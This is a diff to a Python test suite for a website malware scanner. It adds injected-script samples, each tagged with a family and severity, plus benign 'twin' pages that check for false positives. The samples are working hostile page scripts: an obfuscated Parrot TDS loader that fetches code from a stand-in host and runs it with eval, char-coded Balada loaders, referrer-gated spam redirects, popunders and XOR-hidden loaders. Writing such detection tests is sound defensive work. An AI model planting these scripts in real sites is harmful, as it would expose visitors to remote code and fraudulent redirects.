@@ -274,7 +274,80 @@ SKIM_JQUERY_AJAX = (
     "'https://flightpay-gateway.test/gateway/app/dataprocessing/api/',data:t,dataType:"
     "'application/json'})},500)})};</script>")
 
+# the loader's zqxq form, found appended to real theme scripts: an `_0x` table whose words
+# are cut in pieces ('refer'+'rer'), read through objects of indexes
+# (`_0x2b3c(_0x1a2b._0x4d5e)`, javascript-obfuscator's calls transform)
+NDSW_INDEXED = (
+    "<script>;if(typeof zqxq===undefined){(function(_0xa1b2c3,_0xd4e5f6){var _0x1a2b3c={"
+    "_0x4d5e6f:0x90},_0x2b3c4d=_0x3c4d5e,_0x3d4e5f=_0xa1b2c3();while(!![]){try{var _0x5e6f7a="
+    "parseInt(_0x2b3c4d(_0x1a2b3c._0x4d5e6f))/0x1;if(_0x5e6f7a===_0xd4e5f6)break;else _0x3d4e5f["
+    "'push'](_0x3d4e5f['shift']());}catch(_0x6f7a8b){_0x3d4e5f['push'](_0x3d4e5f['shift']());}}}("
+    "_0x4e5f6a,0x1c8));function _0x3c4d5e(_0x7a8b9c,_0x8b9c0d){var _0x9c0d1e=_0x4e5f6a();return "
+    "_0x3c4d5e=function(_0x0d1e2f,_0x1e2f3a){_0x0d1e2f=_0x0d1e2f-0x90;var _0x2f3a4b=_0x9c0d1e["
+    "_0x0d1e2f];return _0x2f3a4b;},_0x3c4d5e(_0x7a8b9c,_0x8b9c0d);}function _0x4e5f6a(){var "
+    "_0x3a4b5c=['456xYz','refer','rer','cooki','e','respo','nseTe','xt','eval','//www.lakeside-"
+    "bakery.test/wp-content/plugins/contact-form-7/includes/js/jquery.php','?id=','qwzx','GET',"
+    "'open','send'];_0x4e5f6a=function(){return _0x3a4b5c;};return _0x4e5f6a();}var zqxq=!![];("
+    "function(){var _0x5b6c7d={_0x6c7d8e:0x91,_0x7d8e9f:0x92,_0x8e9f0a:0x93,_0x9f0a1b:0x94},"
+    "_0x0a1b2c=_0x3c4d5e,_0x1b2c3d=document,_0x2c3d4e=window,_0x3d4e5f2=_0x1b2c3d[_0x0a1b2c("
+    "_0x5b6c7d._0x6c7d8e)+_0x0a1b2c(_0x5b6c7d._0x7d8e9f)],_0x4e5f6a7=_0x1b2c3d[_0x0a1b2c("
+    "_0x5b6c7d._0x8e9f0a)+_0x0a1b2c(_0x5b6c7d._0x9f0a1b)];if(_0x3d4e5f2&&!_0x4e5f6a7){var "
+    "_0x5f6a7b=new XMLHttpRequest();_0x5f6a7b[_0x0a1b2c(0x9d)](_0x0a1b2c(0x9c),location.protocol+"
+    "_0x0a1b2c(0x99)+_0x0a1b2c(0x9a)+Math.random(),!![]);_0x5f6a7b.onload=function(){var "
+    "_0x6a7b8c=_0x5f6a7b[_0x0a1b2c(0x95)+_0x0a1b2c(0x96)+_0x0a1b2c(0x97)];_0x6a7b8c['indexOf']("
+    "_0x0a1b2c(0x9b))!==-0x1&&_0x2c3d4e[_0x0a1b2c(0x98)](_0x6a7b8c);};_0x5f6a7b[_0x0a1b2c(0x9e)]("
+    "null);}}());};</script>")
+
+# what one script hands the next, as the browser runs them in one scope: ndsw's string
+# table in one script and its loader in the next; Balada's char-coded address kept in a
+# name for the loader after it; a redirect kit's rule in a settings script
+_TABLE_END = NDSW_RENAMED.index("var ndsw=true;")
+NDSW_SPLIT = (NDSW_RENAMED[:_TABLE_END].replace(";if(ndsw===undefined){", "") + "</script>\n"
+              "<script>;if(ndsw===undefined){" + NDSW_RENAMED[_TABLE_END:])
+BALADA_SPLIT = (
+    "<script>var _wpx_u=String.fromCharCode("
+    f"{_codes('https://stay.linestoget.test/scripts/check.js?v=9')});</script>\n<script>var s="
+    "document.createElement('script');s.src=_wpx_u;document.getElementsByTagName('head')[0]."
+    "appendChild(s);</script>")
+KIT_RULE = (
+    "<script>var _rdr={u:'https://prize-claim-center.test/?s=hg',r:'google|bing|yahoo'};"
+    "</script>\n<script>if(new RegExp(_rdr.r).test(document.referrer)){window.location.href="
+    "_rdr.u;}</script>")
+
 FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
+    ("ndsw's zqxw form: numbers written as arithmetic, read through objects, wp_footer",
+     {"footer": NDSW_RENAMED.replace("i=i-0x64;", "i=i-(0x32*0x3+-0x32);").replace(
+         "}(V,0x46));", "}(V,0x23*0x3+-0x23));").replace(
+         "var Y=g,", "var K={a:'0x6a',b:0x6b},Y=g,").replace("P=G[Y(0x6a)+Y(0x6b)]",
+                                                            "P=G[Y(K.a)+Y(K.b)]")},
+     ("tds-loader", H)),
+    ("ndsw's zqxq form: its table's words cut, read through objects of indexes, wp_footer",
+     {"footer": NDSW_INDEXED}, ("tds-loader", H)),
+    ("ndsw / Parrot TDS, its string table one script before its loader, wp_footer",
+     {"footer": NDSW_SPLIT}, ("tds-loader", H)),
+    ("Balada char-code address in one script, its loader in the next, head",
+     {"head": BALADA_SPLIT}, ("obfuscated-script", H)),
+    ("Balada's address two scripts before its loader, a theme's settings between, head",
+     {"head": BALADA_SPLIT.replace("</script>\n<script>var s=", "</script>\n<script>var "
+                                   "gazette_theme={dark:false};</script>\n<script>var s=")},
+     ("obfuscated-script", H)),
+    ("a redirect kit's rule in a settings script, the redirect in the next, wp_footer",
+     {"footer": KIT_RULE}, ("redirect", H)),
+    ("a pop on the first click anywhere, its hook fired once, wp_footer", {"footer": (
+        "<script>document.addEventListener('click',function(){window.open('https://offers-pop."
+        "test/?z=5');},{once:true});</script>")}, ("popunder", M)),
+    ("a pop on the first click, its address in base64, wp_footer", {"footer": (
+        "<script>document.addEventListener('click',function(){window.open(atob('"
+        + _b64("https://offers-pop.test/?z=5") + "'));},{once:true});</script>")},
+     ("popunder", M)),
+    ("a redirect to a name holding the address's char codes, window.stop() first, head",
+     {"head": "<script>window.stop();var l=String.fromCharCode("
+      f"{_codes('https://bvs.offer-trackhub.test/go.php?s=43636&id=184')});window.location."
+      "replace(l);document.location.href=l;</script>"}, ("redirect", H)),
+    ("a referrer-gated redirect to a name its script assigns the address, wp_footer",
+     {"footer": "<script>var target_url='https://prize-claim-center.test/?s=hg';if(/google|"
+      "bing/.test(document.referrer)){location.replace(target_url);}</script>"},
+     ("redirect", H)),
     ("ndsw / Parrot TDS, plain, wp_footer", {"footer": NDSW}, ("tds-loader", H)),
     ("ndsw / Parrot TDS, obfuscated, wp_footer", {"footer": NDSW_OBFUSCATED}, ("tds-loader", H)),
     ("ndsw / Parrot TDS, string table renamed, wp_footer", {"footer": NDSW_RENAMED},
@@ -309,6 +382,12 @@ FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
     ("SocGholish atob loader, wp_footer", {"footer": SOCGHOLISH}, ("obfuscated-script", H)),
     ("XOR-hidden loader run by new Function, its key in the script, wp_footer", {
         "footer": XOR_KEYED_LOADER}, ("obfuscated-script", H)),
+    ("XOR-hidden loader run by a timer, its key in the script, wp_footer", {
+        "footer": XOR_KEYED_LOADER.replace("new Function(n)();", "setTimeout(n,1);")},
+     ("obfuscated-script", H)),
+    ("XOR-hidden loader run by Function.call, wp_footer", {
+        "footer": XOR_KEYED_LOADER.replace("new Function(n)();", "Function.call(null,n)();")},
+     ("obfuscated-script", H)),
     ("fake browser update overlay", {"body_top": FAKE_UPDATE}, ("fake-update", H)),
     ("ClickFix clipboard.writeText", {"body_top": CLICKFIX_WRITE}, ("clipboard-command", H)),
     ("ClickFix execCommand('copy') of a hidden textarea", {"body_top": CLICKFIX_COPY},
@@ -382,6 +461,23 @@ def test_the_clean_page_has_no_finding(audit_listed: AuditListed) -> None:
 # nothing at random, a breaking-news push prompt, Chrome's own download page link, a
 # language redirect behind a cookie, a CDN failover among one vendor's mirrors.
 TWINS: list[tuple[str, dict[str, str]]] = [
+    ("a first click that records consent, a share button's window beside it", {"footer": (
+        "<script>document.addEventListener('click',function(){document.cookie='seen=1;path=/';"
+        "},{once:true});document.getElementById('tw').onclick=function(){window.open('https://"
+        "twitter.com/intent/tweet?url='+encodeURIComponent(location.href));};</script>")}),
+    ("a document's delegated click opening the site's own page", {"footer": (
+        "<script>document.addEventListener('click',function(e){if(e.target.matches('.print'))"
+        "{window.open('https://www.harbourgazette.example/print/4187');}},{once:true});"
+        "</script>")}),
+    ("a settings script's shop address the next script opens on a click", {"footer": (
+        "<script>var shopUrl='https://shop.harbourmedia-group.test/';</script>\n<script>"
+        "document.getElementById('shop').onclick=function(){location.href=shopUrl;};"
+        "</script>")}),
+    ("WordPress' localized settings read by the next script", {"footer": (
+        '<script id="gazette-js-extra">var gazetteVars={"ajaxurl":"https:\\/\\/www.'
+        'harbourgazette.example\\/wp-admin\\/admin-ajax.php","cdn":"https://static.'
+        'harbourmedia-cdn.test/"};</script>\n<script>jQuery.post(gazetteVars.ajaxurl,{action:'
+        "'views',id:4187});</script>")}),
     ("a notice a script hides once it runs, its one link in prose", {"footer": (
         '<div id="js-warning"><p>This timetable works best with JavaScript on; the printable '
         'version is at <a href="https://timetables.ferrylink.test/print">the operator\'s site'
